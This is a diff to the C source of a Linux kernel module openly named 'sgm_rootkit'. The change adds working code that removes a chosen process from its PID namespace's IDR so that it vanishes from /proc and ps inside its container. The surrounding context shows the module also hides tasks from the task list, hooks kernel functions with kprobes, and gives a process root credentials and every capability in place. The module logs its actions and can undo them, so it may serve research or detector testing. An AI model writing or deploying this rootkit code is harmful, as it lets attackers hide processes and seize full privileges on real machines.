@@ -22,6 +22,9 @@
  *   kprobe_hook=FUNC      a kprobe on FUNC whose pre-handler counts hits in kprobe_hits.
  *   hide_pid=PID          list_del_init(&task->tasks): gone from the task list, left in
  *                         the pid hash/IDR (so /proc/PID stays).
+ *   hide_pid_ns=PID       take the process out of the PID IDR of its own (non-initial)
+ *                         namespace: gone from /proc and ps inside its container, still
+ *                         on the task list and in the parent namespaces' IDRs.
  *   root_pid=PID          overwrite the ids of that task's credentials with 0 and give it
  *                         every capability, in place (its cred is shared with nobody).
  *
@@ -44,6 +47,8 @@
 #include <linux/sched.h>
 #include <linux/sched/task.h>
 #include <linux/pid.h>
+#include <linux/pid_namespace.h>
+#include <linux/idr.h>
 #include <linux/cred.h>
 #include <linux/capability.h>
 #include <linux/rculist.h>
@@ -75,6 +80,8 @@ static int hide_pid;
 module_param(hide_pid, int, 0444);
 static int root_pid;
 module_param(root_pid, int, 0444);
+static int hide_pid_ns;
+module_param(hide_pid_ns, int, 0444);
 static char *kprobe_hook;
 module_param(kprobe_hook, charp, 0444);
 long sgm_kprobe_hits;
@@ -501,6 +508,59 @@ static void sgm_unhide_task(void)
 	pr_info("sgm_rootkit: pid %d back on the task list\n", hide_pid);
 }
 
+/* ---- hide_pid_ns ---- */
+
+static spinlock_t *sgm_pidmap_lock;
+static struct pid *sgm_ns_pid;
+static int sgm_ns_nr;
+
+static int sgm_hide_in_ns(void)
+{
+	struct task_struct *task;
+	struct upid *upid;
+
+	sgm_pidmap_lock = (spinlock_t *)sgm_sym("pidmap_lock");
+	if (!sgm_pidmap_lock)
+		return -ENOENT;
+	task = sgm_task(hide_pid_ns);
+	if (!task)
+		return -ESRCH;
+	sgm_ns_pid = get_pid(task_pid(task));
+	put_task_struct(task);
+	if (sgm_ns_pid->level == 0) {
+		put_pid(sgm_ns_pid);
+		sgm_ns_pid = NULL;
+		return -EINVAL;	/* not in a namespace of its own */
+	}
+	upid = &sgm_ns_pid->numbers[sgm_ns_pid->level];
+	sgm_ns_nr = upid->nr;
+	spin_lock_irq(sgm_pidmap_lock);
+	idr_remove(&upid->ns->idr, sgm_ns_nr);
+	spin_unlock_irq(sgm_pidmap_lock);
+	pr_info("sgm_rootkit: pid %d is gone from the IDR of its namespace (where it is %d)\n",
+		hide_pid_ns, sgm_ns_nr);
+	return 0;
+}
+
+static void sgm_unhide_in_ns(void)
+{
+	struct pid_namespace *ns;
+	int nr = -1;
+
+	if (!sgm_ns_pid)
+		return;
+	ns = sgm_ns_pid->numbers[sgm_ns_pid->level].ns;
+	idr_preload(GFP_KERNEL);
+	spin_lock_irq(sgm_pidmap_lock);
+	if (pid_task(sgm_ns_pid, PIDTYPE_PID))	/* still running: put it back */
+		nr = idr_alloc(&ns->idr, sgm_ns_pid, sgm_ns_nr, sgm_ns_nr + 1, GFP_ATOMIC);
+	spin_unlock_irq(sgm_pidmap_lock);
+	idr_preload_end();
+	put_pid(sgm_ns_pid);
+	sgm_ns_pid = NULL;
+	pr_info("sgm_rootkit: pid %d back in its namespace's IDR (%d)\n", hide_pid_ns, nr);
+}
+
 /* ---- root_pid ---- */
 
 struct sgm_ids {
@@ -583,6 +643,7 @@ static void sgm_unroot_task(void)
 static void sgm_undo(void)
 {
 	sgm_unroot_task();
+	sgm_unhide_in_ns();
 	sgm_unhide_task();
 	sgm_ftrace_unregister();
 	sgm_kprobe_unregister();
@@ -622,6 +683,8 @@ static int __init sgm_init(void)
 	if (kprobe_hook && *kprobe_hook && (err = sgm_kprobe_register()))
 		goto fail;
 	if (hide_pid > 0 && (err = sgm_hide_task()))
+		goto fail;
+	if (hide_pid_ns > 0 && (err = sgm_hide_in_ns()))
 		goto fail;
 	if (root_pid > 0 && (err = sgm_root_task()))
 		goto fail;
